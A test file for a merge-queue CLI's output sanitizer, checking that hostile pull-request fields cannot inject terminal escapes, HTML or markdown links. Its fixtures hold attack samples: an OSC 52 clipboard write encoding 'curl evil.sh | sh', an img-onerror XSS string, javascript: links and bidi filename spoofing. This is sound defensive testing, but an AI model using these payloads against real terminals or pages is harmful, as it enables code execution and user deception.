/**
 * The presenter, with hostile records from the service: nothing reaches a terminal, a pipe or a
 * markdown step summary that could move the cursor, write the clipboard, reorder text or inject
 * HTML; --json keeps the exact strings; mq's own colours still work. Also: the JSON error document
 * however JSON was chosen, and the cap on huge terminal tables.
 */
import { describe, expect, it } from 'vitest';
import { runStatus } from '../../src/commands/status.js';
import { runQueueShow } from '../../src/commands/queue/show.js';
import { ExitCode, MqError } from '../../src/errors.js';
import { argvAsksJson, presentError } from '../../src/output/present-error.js';
import { MAX_TABLE_ROWS } from '../../src/output/render.js';
import { safeLine } from '../../src/output/sanitize.js';
import { testDeps } from '../helpers/deps.js';
import { fakeClient } from '../helpers/fake-client.js';
import { memoryIO } from '../helpers/memory-io.js';
import { entry, queueRecord } from '../helpers/test-context.js';

const ESC = '\x1b';
const HOSTILE = {
  osc52: `${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07`,
  clear: `${ESC}[2J${ESC}[H`,
  csi: `${ESC}[31mred${ESC}[0m`,
  c1: '\x9b31m',
  cr: 'ok\rFAKE',
  backspace: 'abc\b\b\bxyz',
  bidi: 'user\u202Egnp.exe',
  isolate: 'a\u2066b\u2069c',
  html: '<img src=x onerror=alert(1)>',
  tab: 'a\tb',
  newline: 'line1\nline2',
  invisible: 'pay\u200bpal\ufeff\u00ad\u2060\u{e0041}\u{e007f}',
};
const title = Object.values(HOSTILE).join(' ');

/** No control character but mq's own SGR colour sequences, and no bidi control. */
function assertInert(text: string, allowSgr: boolean): void {
  const withoutOwnColour = allowSgr ? text.replace(/\x1b\[\d+(;\d+)*m/g, '') : text;
  expect(withoutOwnColour).not.toMatch(
    /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b\ufeff\u00ad\u2060\u{e0000}-\u{e007f}]/u,
  );
}

const record = {
  ...entry(42, 'testing'),
  prTitle: title,
  prAuthor: HOSTILE.bidi,
  prBaseBranch: HOSTILE.osc52,
  isCurrentlySubmittedToQueue: true,
};

async function statusIn(output: string, color = false) {
  const fake = fakeClient({ getSubmittedPullRequestWithTimeline: [record] });
  const { deps, io } = testDeps({ fake, options: { output }, color, stdoutIsTTY: color });
  await deps.out.show(await runStatus({ pr: 42 }, deps));
  return io.stdout;
}

describe('terminal injection: every format but JSON is inert', () => {
  it('table: controls become visible escapes, mq colours stay', async () => {
    const out = await statusIn('table', true);
    assertInert(out, true);
    expect(out).toContain('\\x1b]52;c;');
    expect(out).toContain('\\u202e');
    expect(out).toContain('ok\\x0dFAKE');
    expect(out).toContain('\\x9b31m');
    expect(out).toContain('pay\\u200bpal\\ufeff\\xad\\u2060\\u{e0041}\\u{e007f}');
    // The state is coloured by mq (cyan for testing).
    expect(out).toContain(`${ESC}[36mtesting${ESC}[39m`);
  });

  it('plain: one line per field, tabs and newlines never break a row', async () => {
    const out = await statusIn('plain');
    assertInert(out, false);
    for (const line of out.trimEnd().split('\n')) expect(line.split('\t')).toHaveLength(2);
    expect(out).toContain('a b line1 line2');
  });

  it('markdown: HTML is escaped, pipes cannot open cells, no control characters', async () => {
    const out = await statusIn('markdown');
    assertInert(out, false);
    expect(out).not.toContain('<img');
    expect(out).toContain('&lt;img src=x onerror=alert(1)&gt;');
    for (const line of out.split('\n').filter((l) => l.startsWith('| ')))
      expect(line.split(/(?<!\\)\|/).length).toBe(4);
  });

  it('markdown: service text cannot make a link or an image', async () => {
    const fake = fakeClient({
      getSubmittedPullRequestWithTimeline: [
        {
          ...record,
          prTitle: '[fix](javascript:alert(1)) ![x](https://track.example/p.png) [r][1]',
          prAuthor: '[1]: javascript:alert(1)',
        },
      ],
    });
    const { deps, io } = testDeps({ fake, options: { output: 'markdown' } });
    await deps.out.show(await runStatus({ pr: 42 }, deps));
    expect(io.stdout).toContain('javascript:alert(1)');
    // Every bracket from the service is escaped, so no `[text](url)`, `![alt](src)` or `[text][ref]` remains.
    expect(io.stdout).not.toMatch(/(?<!\\)[[\]]/);
  });

  it('a timeline time outside what a date can hold is skipped, not a crash', async () => {
    const timeline = [
      { timestamp: 1e20, state: 'pending', reason: 'MERGE_ITEM_NOW_READY' },
      { timestamp: -1.7e308, state: 'testing', reason: 'TEST_RUN_STARTED' },
      { timestamp: '2026-11-22T11:00:00.000Z', state: 'testing', reason: 'TEST_RUN_STARTED', testRunId: 'r-1' },
    ];
    for (const output of ['table', 'plain', 'markdown', 'json']) {
      const fake = fakeClient({ getSubmittedPullRequestWithTimeline: [{ ...entry(42, 'testing'), timeline }] });
      const { deps, io } = testDeps({ fake, options: { output } });
      expect(await deps.out.show(await runStatus({ pr: 42 }, deps))).toBe(0);
      expect(io.stdout).toContain('r-1');
    }
  });

  it('--json keeps the exact strings', async () => {
    const out = await statusIn('json');
    expect(JSON.parse(out).prTitle).toBe(title);
  });

  it('a queue table with hostile entries is inert; the banner keeps its colour', async () => {
    const fake = fakeClient({
      getQueue: [
        queueRecord({ state: 'paused', branch: HOSTILE.clear }, [
          { ...entry(1, 'pending'), prTitle: title, prAuthor: HOSTILE.csi },
        ]),
      ],
      // A not-ready PR whose base branch (shown in why it waits) and title are hostile too.
      listPullRequests: [{ pullRequests: [{ ...entry(2, 'not_ready'), prTitle: title, prBaseBranch: HOSTILE.csi }] }],
      getSubmittedPullRequests: [
        { pullRequests: [{ prNumber: 2, readiness: { doesBaseBranchMatch: false, gitHubMergeability: 'mergeable' } }] },
      ],
    });
    const { deps, io } = testDeps({ fake, color: true, stdoutIsTTY: true });
    await deps.out.show(await runQueueShow({}, deps));
    assertInert(io.stdout, true);
    expect(io.stdout).toContain('Not ready (1)');
    expect(io.stdout).toContain(`${ESC}[1m${ESC}[7m${ESC}[33m ⚠ QUEUE PAUSED`);
  });

  it('stderr lines (wait transitions, notes) are made safe too', () => {
    const { deps, io } = testDeps();
    deps.out.note(['PR #1: ', { text: title }]);
    assertInert(io.stderr.slice(0, -1), false);
    expect(io.stderr).toContain(safeLine(HOSTILE.osc52));
    expect(safeLine(HOSTILE.osc52)).toBe('\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07');
  });

  it('error messages from the service are one safe line', () => {
    const io = memoryIO();
    presentError(
      { io, json: false, debug: false, commandPath: 'mq status' },
      new MqError(
        ExitCode.rejected,
        'submit PR #1',
        `the service answered HTTP 400: ${HOSTILE.clear}${HOSTILE.newline}`,
      ),
    );
    assertInert(io.stderr.replace(/\n/g, ''), false);
    expect(io.stderr.split('\n').filter(Boolean)).toHaveLength(1);
  });
});

describe('the JSON error document, however JSON was chosen', () => {
  it.each([
    [['status', '42', '--json']],
    [['status', '42', '-o', 'json']],
    [['-o', 'json', 'status', '42']],
    [['status', '42', '--output=json']],
    [['status', '42', '-ojson']],
  ])('%j', (argv) => {
    expect(argvAsksJson(argv)).toBe(true);
  });
  it('not after --, not for other formats', () => {
    expect(argvAsksJson(['status', '--', '--json'])).toBe(false);
    expect(argvAsksJson(['status', '-o', 'plain'])).toBe(false);
  });
  it('-o json: the document on stdout, the line on stderr', async () => {
    const fake = fakeClient({
      getSubmittedPullRequestWithTimeline: [
        new MqError(ExitCode.notFound, 'get PR #42', 'the service answered HTTP 404'),
      ],
    });
    const { deps, io } = testDeps({ fake, options: { output: 'json' } });
    const err = await runStatus({ pr: 42 }, deps).catch((e: unknown) => e);
    const code = presentError({ io, json: deps.out.format() === 'json', debug: false, commandPath: 'mq status' }, err);
    expect(code).toBe(3);
    expect(JSON.parse(io.stdout)).toEqual({
      ok: false,
      error: { exitCode: 3, kind: 'not-found', message: 'get PR #42: the service answered HTTP 404', hints: [] },
    });
    expect(io.stderr).toBe('mq: get PR #42: the service answered HTTP 404\n');
  });
});

describe('a huge queue on a terminal', () => {
  it('200,000 PRs: the first rows and a line pointing at --json', async () => {
    const prs = Array.from({ length: 200_000 }, (_, i) => ({
      prNumber: i + 1,
      state: 'pending',
      prTitle: `PR ${i + 1}`,
    }));
    const fake = fakeClient({ getQueue: [queueRecord({}, prs)], listPullRequests: [{ pullRequests: [] }] });
    const { deps, io } = testDeps({ fake, stdoutIsTTY: true });
    await deps.out.show(await runQueueShow({}, deps));
    expect(io.stdout).toContain(`… ${200_000 - MAX_TABLE_ROWS} more, use --json`);
    expect(io.stdout).toContain('#1000');
    expect(io.stdout).not.toContain('#1001 ');
  });
});
